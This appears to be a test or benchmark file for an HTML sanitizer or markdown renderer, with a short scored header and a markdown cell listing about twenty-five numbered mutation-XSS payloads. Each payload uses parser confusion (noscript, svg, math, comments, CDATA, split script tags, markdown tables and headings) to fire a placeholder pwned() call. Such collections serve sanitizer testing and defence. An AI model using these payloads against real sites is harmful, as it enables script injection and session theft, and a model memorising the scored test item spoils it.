r"""
tries = "Writes markup that becomes active when a page is read and written again."
score = 4
"""
# %% [markdown] answer="why"
# <noscript><p title="</noscript><img src=x onerror=pwned(1)>"></noscript> <svg></p><style><a id="</style><img src=1 onerror=pwned(2)>"></svg>
#
# <form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned(3)></style></mglyph></form> <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned(4)&gt;"></table></mtext></math>
#
# <xmp><p title="</xmp><img src=x onerror=pwned(5)>"></xmp> <template><script>pwned(6)</script></template> <textarea></textarea><img src=x onerror=pwned(7)></textarea> <title></title><img src=x onerror=pwned(8)></title>
#
# <!--><img src=x onerror=pwned(9)>--> <!--- --!><img src=x onerror=pwned(10)> --> <![CDATA[<img src=x onerror=pwned(11)>]]> <?xml version="1.0"?><?php <img src=x onerror=pwned(12)> ?>
#
# <scr<script>ipt>pwned(13)</scr</script>ipt> <img src="x` `<script>pwned(14)</script>"` `> <img src=x onerror	=	pwned(15) <b/onmouseover=pwned(16)>x</b> <a href="x" title='"><img src=x onerror=pwned(17)>'>x</a>
#
# ```"><img src=x onerror=pwned(18)>
# code </code></pre><img src=x onerror=pwned(19)>
# ```
#
# # Title <img src=x onerror=pwned(20)> {#"><img src=x onerror=pwned(21)>}
#
# | a | b <img src=x onerror=pwned(22)> |
# |---|---|
# | `<img src=x onerror=pwned(23)>` | [x](x "\"><img src=x onerror=pwned(24)>") |
#
# <plaintext><img src=x onerror=pwned(25)>
